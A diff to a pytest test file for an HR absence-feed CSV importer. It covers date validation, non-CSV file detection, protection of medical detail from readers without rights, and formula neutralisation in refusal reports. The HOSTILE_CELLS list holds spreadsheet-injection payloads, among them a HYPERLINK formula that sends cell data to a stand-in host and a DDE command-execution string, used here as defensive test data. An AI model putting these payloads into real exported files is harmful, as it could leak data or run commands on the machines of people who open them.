@@ -1,15 +1,21 @@
 """The absence-system feed: reading cells and rows, and what a batch of rows does against what is stored."""
 from __future__ import annotations
 
+import csv
+import dataclasses
 import datetime as dt
+import io
+import re
 
 import pytest
 
 from casework.absence_feed import (
     COLUMNS,
+    REPORTED_COLUMNS,
     Staff,
     StoredAbsence,
     counts,
+    detail_not_compared,
     missing_columns,
     plan_feed,
     read_row,
@@ -18,9 +24,11 @@ from casework.absence_feed import (
 from casework.calendar import WorkingPattern
 from casework.feed_files import (
     NotAFeedFile,
+    check_rows,
     decode_text,
     iso_date,
     read_csv,
+    read_header,
     refusal_lines,
     refusal_report,
     summary,
@@ -66,14 +74,23 @@ def test_yes_no(given, value):
 
 
 @pytest.mark.parametrize("given, value", [("2026-03-02", D(2026, 3, 2)), ("", None), (None, None),
-                                          (" 2026-03-02 ", D(2026, 3, 2))])
+                                          (" 2026-03-02 ", D(2026, 3, 2)), ("1900-01-01", D(1900, 1, 1)),
+                                          ("2200-12-31", D(2200, 12, 31))])
 def test_iso_dates(given, value):
     assert iso_date(given) == value
 
 
-@pytest.mark.parametrize("given", ["2026-3-2", "02/03/2026", "20260302", "2026-02-30", "yesterday"])
+@pytest.mark.parametrize("given", ["2026-3-2", "02/03/2026", "20260302", "2026-02-30", "yesterday",
+                                   "\u0662\u0660\u0662\u0666-03-02", "2026-03-02T00:00"])
 def test_other_date_forms_are_refused(given):
-    with pytest.raises(ValueError):
+    with pytest.raises(ValueError, match="is not a date: write it as YYYY-MM-DD"):
+        iso_date(given)
+
+
+@pytest.mark.parametrize("given", ["0001-01-01", "1899-12-31", "2201-01-01", "9999-12-31"])
+def test_dates_too_far_away_are_refused(given):
+    """Windows and periods counted from them would leave the calendar (OverflowError)."""
+    with pytest.raises(ValueError, match="is too far away: use a date from 1900-01-01 to 2200-12-31"):
         iso_date(given)
 
 
@@ -224,7 +241,7 @@ def test_read_csv_numbers_rows_as_in_the_file():
 
 def test_refusal_report_and_lines():
     report = refusal_report(["absence_id", "first_day"], [(3, {"absence_id": "X", "first_day": "soon"},
-                                                          {"first_day": "Not a date.", "row": "Odd."})])
+                                                          {"first_day": "Not a date.", "row": "Odd."})], COLUMNS)
     assert report == "absence_id,first_day,row,errors\r\nX,soon,3,first_day: Not a date.; row: Odd.\r\n"
     assert refusal_lines(3, "X", {"first_day": "Not a date."}) == ["row 3 (absence_id X): first_day: Not a date."]
 
@@ -238,3 +255,82 @@ def test_decode_text(data, text):
 def test_binary_files_are_not_feed_files():
     with pytest.raises(NotAFeedFile):
         decode_text(b"PK\x03\x04\x00\x00")
+
+
+@pytest.mark.parametrize("data, message", [
+    ("a,b\n".encode("utf-16"), "This file is saved as UTF-16 or UTF-32"),
+    ("a,b\n".encode("utf-32"), "This file is saved as UTF-16 or UTF-32"),
+    (b"PK\x03\x04rest", "This is a Word or Excel file (or a zip), not CSV."),
+    (b"a,b\nc,d\x00e\n", "Line 2 holds a NUL character"),
+    (b"\x00" * 20, "This is not a CSV text file."),
+    (b"a,b\n\x81\x8d\n", "The file's characters could not be read."),
+])
+def test_what_is_not_csv_text_is_named(data, message):
+    with pytest.raises(NotAFeedFile, match=re.escape(message)):
+        decode_text(data)
+
+
+@pytest.mark.parametrize("text, message", [
+    ("a,b\r\nx,y\r\nz," + "v" * 140_000 + "\r\n", "Row 3: a value is longer than the 128 KB Casebook reads"),
+    ('a,b\r\nx,"open\r\n' + "w" * 140_000, "Row 2: a value is longer than the 128 KB Casebook reads"),
+    ("a,b\r\n" + "," * 300 + "\r\n", "Row 2 has 301 values; Casebook reads at most 200 in a row"),
+    ("a\r\n" + "x\r\n" * 300_001, "The file has more than 300,000 rows"),
+])
+def test_every_reader_names_the_row_it_cannot_read(text, message):
+    for read in (read_csv, check_rows):
+        with pytest.raises(NotAFeedFile, match=re.escape(message)):
+            read(text)
+
+
+def test_byte_order_marks_left_in_the_header_are_ignored():
+    assert read_header("\ufeff\ufeffabsence_id, First_Day \r\n") == ["absence_id", "first_day"]
+
+
+# A reader who may not know the employee's medical detail learns nothing about it from the plan.
+
+SECRET = dataclasses.replace(ANNA, detail_known=False)
+
+
+@pytest.mark.parametrize("guess", ["Flu", "Broken leg", "", "flu", "Flu "])
+def test_without_medical_rights_a_guessed_detail_always_reads_unchanged(guess):
+    [outcome] = plan_feed([row(reason_detail=guess)], {"A1": SECRET, "B1": BOSS},
+                          [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
+    assert outcome.action == "unchanged" and counts([outcome])["unchanged"] == 1
+    assert outcome.writes == (outcome.changes != {})   # a real change of detail is written all the same
+    assert detail_not_compared([outcome]) == 1
+
+
+def test_with_medical_rights_a_changed_detail_is_an_update():
+    [outcome] = plan([row(reason_detail="Broken leg")], [stored(interview=(D(2026, 3, 5), "Bea Boss"))])
+    assert outcome.action == "updated" and outcome.changes == {"reason_detail": "Broken leg"}
+    assert detail_not_compared([outcome]) == 0
+
+
+def test_without_medical_rights_other_changes_are_still_reported_alike_whatever_the_detail():
+    for guess in ("Flu", "Broken leg"):
+        [outcome] = plan_feed([row(reason_detail=guess, last_day="2026-03-06", rtw_date="2026-03-09")],
+                              {"A1": SECRET, "B1": BOSS}, [stored(interview=(D(2026, 3, 5), "Bea Boss"))], TODAY)
+        assert outcome.action == "updated"
+
+
+HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1",
+                 "＝1+1", "＋1", "－1", "＠SUM(1)", "  =1+1", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("cell", HOSTILE_CELLS)
+def test_the_refusal_report_neutralises_formulas_in_every_cell(cell):
+    raw = {**GOOD, "absence_id": cell, "first_day": cell, "work_related": cell, "reason_category": cell}
+    report = refusal_report(list(GOOD), [(2, raw, {"first_day": cell})], REPORTED_COLUMNS)
+    [written] = list(csv.reader(io.StringIO(report)))[1:]
+    for value in written:
+        assert not value.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), value
+        assert not value.startswith(("\t", "\r")), value
+
+
+def test_the_refusal_report_drops_the_detail_and_columns_it_does_not_know():
+    header = [*GOOD, "diagnosis", "notes"]
+    raw = {**GOOD, "reason_detail": "Chemotherapy", "diagnosis": "Cancer", "notes": "see GP letter"}
+    report = refusal_report(header, [(2, raw, {"first_day": "Odd."})], REPORTED_COLUMNS)
+    columns = next(csv.reader(io.StringIO(report)))
+    assert columns == [name for name in COLUMNS if name != "reason_detail"] + ["row", "errors"]
+    assert "Chemotherapy" not in report and "Cancer" not in report and "GP letter" not in report
